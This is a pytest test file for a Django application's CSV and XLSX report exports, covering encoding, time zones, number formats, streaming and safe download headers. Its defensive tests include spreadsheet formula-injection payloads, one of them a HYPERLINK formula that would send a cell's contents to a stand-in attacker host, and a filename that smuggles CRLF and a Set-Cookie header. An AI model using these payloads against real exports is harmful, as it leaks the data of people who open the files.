"""CSV and XLSX exports: bytes as Excel reads them, typed cells, safe text, headers, streaming."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from collections.abc import Iterator, Mapping
from decimal import Decimal
from typing import Any, cast
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.http import Http404, HttpResponse, StreamingHttpResponse
from django.http.response import HttpResponseBase
from django.utils import timezone, translation
from django.utils.translation import gettext_lazy

from opora.core.exports import (
    EXPORT_FORMATS,
    Column,
    Table,
    content_disposition,
    table_response,
    tables_response,
)

MOSCOW_NOON = dt.datetime(
    2026, 3, 2, 9, 0, tzinfo=dt.UTC
)  # 12:00 in Moscow, 14:00 in Yekaterinburg

COLUMNS = [
    Column("operator", "Оператор"),
    Column("tickets", "Обращений", "int"),
    Column("sla", "В срок", "percent"),
    Column("hours", "Часы", "hours"),
    Column("csat", "CSAT", "float"),
    Column("day", "День", "date"),
    Column("at", "Последний ответ", "datetime"),
]


def rows() -> list[dict[str, Any]]:
    return [
        {
            "operator": "Иван Операторов",
            "tickets": 120,
            "sla": 95.0,
            "hours": dt.timedelta(hours=1, minutes=30),
            "csat": Decimal("4.75"),
            "day": dt.date(2026, 3, 2),
            "at": MOSCOW_NOON,
        },
        {
            "operator": None,
            "tickets": None,
            "sla": None,
            "hours": None,
            "csat": None,
            "day": None,
            "at": None,
        },
    ]


def chunks(response: HttpResponseBase) -> Iterator[bytes]:
    assert isinstance(response, StreamingHttpResponse)
    return cast(Iterator[bytes], response.streaming_content)


def csv_text(response: HttpResponseBase) -> str:
    return b"".join(chunks(response)).decode("utf-8")


def xlsx_bytes(response: HttpResponseBase) -> bytes:
    assert isinstance(response, HttpResponse)
    return response.content


def workbook(response: HttpResponseBase) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(xlsx_bytes(response)))


# ---- CSV ---------------------------------------------------------------------------------


def test_csv_is_utf8_with_bom_semicolons_and_a_header_of_labels() -> None:
    with timezone.override("Europe/Moscow"):
        response = table_response(Table("Операторы", COLUMNS, rows()), "csv", "operators")

    text = csv_text(response)
    assert text.startswith("\ufeff")
    lines = text.removeprefix("\ufeff").split("\r\n")
    assert lines[0] == "Оператор;Обращений;В срок;Часы;CSAT;День;Последний ответ"
    assert lines[1] == "Иван Операторов;120;95.0;1.5;4.75;2026-03-02;2026-03-02 12:00"
    assert lines[2] == ";;;;;;"  # None is an empty cell
    assert lines[3:] == [""]


def test_csv_datetimes_follow_the_current_time_zone() -> None:
    table = Table("t", [Column("at", "at", "datetime"), Column("d", "d", "date")], [])
    late = dt.datetime(2026, 3, 2, 21, 30, tzinfo=dt.UTC)
    table = Table(table.title, table.columns, [{"at": late, "d": late}])

    with timezone.override("Asia/Yekaterinburg"):
        text = csv_text(table_response(table, "csv", "t"))

    # 21:30 UTC is 02:30 the next day in Yekaterinburg, for the date column too.
    assert text.split("\r\n")[1] == "2026-03-03 02:30;2026-03-03"


@pytest.mark.parametrize(
    "evil", ['=HYPERLINK("http://x")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]
)
def test_csv_neutralises_text_that_a_spreadsheet_would_run_as_a_formula(evil: str) -> None:
    table = Table("t", [Column("subject", "Тема")], [{"subject": evil}])

    text = csv_text(table_response(table, "csv", "t"))

    body = text.removeprefix("\ufeff").split("\r\n", 1)[1]
    assert body.lstrip('"').startswith("'" + evil[0])


def test_csv_keeps_negative_numbers_and_harmless_text_as_they_are() -> None:
    columns = [Column("delta", "Δ", "int"), Column("ratio", "r", "float"), Column("t", "t")]
    table = Table("t", columns, [{"delta": -3, "ratio": -0.5, "t": 'ответ; «кавычки» "да"'}])

    text = csv_text(table_response(table, "csv", "t"))

    assert text.split("\r\n")[1] == '-3;-0.5;"ответ; «кавычки» ""да"""'


def test_csv_numbers_use_a_dot_and_never_an_exponent() -> None:
    columns = [Column("x", "x", "float"), Column("y", "y", "float")]
    table = Table("t", columns, [{"x": 1e-7, "y": 1234567.5}, {"x": float("nan"), "y": 0.1 + 0.2}])

    lines = csv_text(table_response(table, "csv", "t")).split("\r\n")

    assert lines[1:3] == ["0.0000001;1234567.5", ";0.30000000000000004"]


def test_csv_renders_lazy_labels_in_the_language_of_the_request_even_when_streamed_later() -> None:
    table = Table("t", [Column("name", gettext_lazy("Name"))], [{"name": gettext_lazy("Team")}])
    with translation.override("ru"):
        response = table_response(table, "csv", "t")

    with translation.override("en"):
        text = csv_text(response)

    assert text.removeprefix("\ufeff").split("\r\n")[:2] == ["Название", "Команда"]


def test_csv_of_several_tables_puts_a_title_row_before_each_and_a_blank_line_between() -> None:
    first = Table("=Первая", [Column("a", "А")], [{"a": "1"}])
    second = Table("Вторая", [Column("b", "Б", "int")], [{"b": 2}])

    text = csv_text(tables_response([first, second], "csv", "both"))

    assert text.removeprefix("\ufeff").split("\r\n") == [
        "'=Первая",
        "А",
        "1",
        "",
        "Вторая",
        "Б",
        "2",
        "",
    ]


def test_a_large_csv_streams_in_bounded_chunks_without_reading_rows_up_front() -> None:
    consumed = 0

    def lazy_rows() -> Iterator[Mapping[str, Any]]:
        nonlocal consumed
        for n in range(100_000):
            consumed += 1
            yield {"n": n, "name": f"Клиент {n}", "at": MOSCOW_NOON}

    columns = [Column("n", "№", "int"), Column("name", "Клиент"), Column("at", "Когда", "datetime")]
    response = table_response(Table("big", columns, lazy_rows()), "csv", "big")

    assert consumed == 0
    lines = 0
    biggest = 0
    for chunk in chunks(response):
        lines += chunk.count(b"\r\n")
        biggest = max(biggest, len(chunk))
    assert consumed == 100_000
    assert lines == 100_001
    assert biggest < 100_000


# ---- XLSX --------------------------------------------------------------------------------


def test_xlsx_holds_typed_values_with_number_formats_and_a_bold_frozen_header() -> None:
    with timezone.override("Europe/Moscow"):
        response = table_response(Table("Операторы", COLUMNS, rows()), "xlsx", "operators")

    sheet = workbook(response).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    assert header == [c.label for c in COLUMNS]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    values = {c.key: sheet.cell(row=2, column=i + 1) for i, c in enumerate(COLUMNS)}
    assert values["operator"].value == "Иван Операторов"
    assert (values["tickets"].value, values["tickets"].number_format) == (120, "#,##0")
    # 95.0 is stored as the fraction 0.95 and shown as «95.0%».
    assert (values["sla"].value, values["sla"].number_format) == (0.95, "0.0%")
    assert (values["hours"].value, values["hours"].number_format) == (1.5, "#,##0.00")
    assert values["csat"].value == 4.75
    assert values["day"].is_date
    assert values["day"].value.date() == dt.date(2026, 3, 2)
    assert values["day"].number_format == "dd.mm.yyyy"
    # A real Excel date, in the current time zone (Excel dates have none).
    assert values["at"].is_date
    assert values["at"].value == timezone.make_naive(MOSCOW_NOON, ZoneInfo("Europe/Moscow"))
    assert values["at"].value.hour == 12
    assert values["at"].number_format == "dd.mm.yyyy hh:mm"
    assert [cell.value for cell in sheet[3]] == [None] * len(COLUMNS)


def test_xlsx_fits_column_widths_to_the_content_within_bounds() -> None:
    columns = [Column("short", "№", "int"), Column("long", "Тема")]
    table = Table("t", columns, [{"short": 1, "long": "очень " * 40}, {"short": 2, "long": "x"}])

    sheet = workbook(table_response(table, "xlsx", "t")).worksheets[0]

    narrow = sheet.column_dimensions["A"].width
    wide = sheet.column_dimensions["B"].width
    assert 6 <= narrow < 10
    assert 55 < wide <= 61


def test_xlsx_writes_formula_like_text_as_a_plain_string() -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'
    table = Table(
        "t", [Column("subject", "Тема"), Column("n", "n", "int")], [{"subject": evil, "n": "=1+1"}]
    )

    response = table_response(table, "xlsx", "t")

    sheet = workbook(response).worksheets[0]
    assert sheet["A2"].value == evil
    assert sheet["A2"].data_type == "s"
    assert sheet["B2"].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(response))) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_xlsx_of_several_tables_has_one_sheet_each_with_excel_safe_unique_names() -> None:
    tables = [
        Table("SLA: январь [2026] / первая линия?*", [Column("a", "А")], [{"a": "1"}]),
        Table("Очень длинное название отчёта по операторам", [Column("b", "Б")], [{"b": "2"}]),
        Table("Очень длинное название отчёта по операторам", [Column("c", "В")], [{"c": "3"}]),
        Table("'''", [Column("d", "Г")], []),
    ]

    with translation.override("en"):
        book = workbook(tables_response(tables, "xlsx", "all"))

    names = book.sheetnames
    assert names[0] == "SLA январь 2026 первая линия"
    assert names[1] == "Очень длинное название отчёта п"
    assert len(names[1]) == 31
    assert names[2] == "Очень длинное название отчё (2)"
    assert names[3] == "Sheet 4"
    assert [book[n]["A2"].value for n in names[:3]] == ["1", "2", "3"]


# ---- HTTP --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
)
def test_the_download_is_an_attachment_with_a_cyrillic_filename_and_an_ascii_fallback(
    fmt: str, content_type: str
) -> None:
    response = table_response(Table("t", COLUMNS, rows()), fmt, "Отчёт по SLA за март")

    assert fmt in EXPORT_FORMATS
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == (
        f'attachment; filename="Otchet_po_SLA_za_mart.{fmt}"; '
        f"filename*=UTF-8''%D0%9E%D1%82%D1%87%D1%91%D1%82%20%D0%BF%D0%BE%20SLA%20"
        f"%D0%B7%D0%B0%20%D0%BC%D0%B0%D1%80%D1%82.{fmt}"
    )
    assert response["Cache-Control"] == "private, no-store"


def test_a_filename_cannot_break_out_of_the_header() -> None:
    header = content_disposition('a"b\r\nSet-Cookie: x/..\\y.csv')

    assert "\r" not in header and "\n" not in header
    assert header.startswith('attachment; filename="a_b__Set-Cookie_x_.._y.csv"; ')
    assert header.endswith("filename*=UTF-8''a_b__Set-Cookie%3A%20x_.._y.csv")


def test_an_unknown_format_is_not_found() -> None:
    with pytest.raises(Http404):
        table_response(Table("t", COLUMNS, rows()), "pdf", "t")


def test_an_unknown_column_kind_is_a_programming_error() -> None:
    with pytest.raises(ValueError, match="money"):
        Column("x", "x", "money")
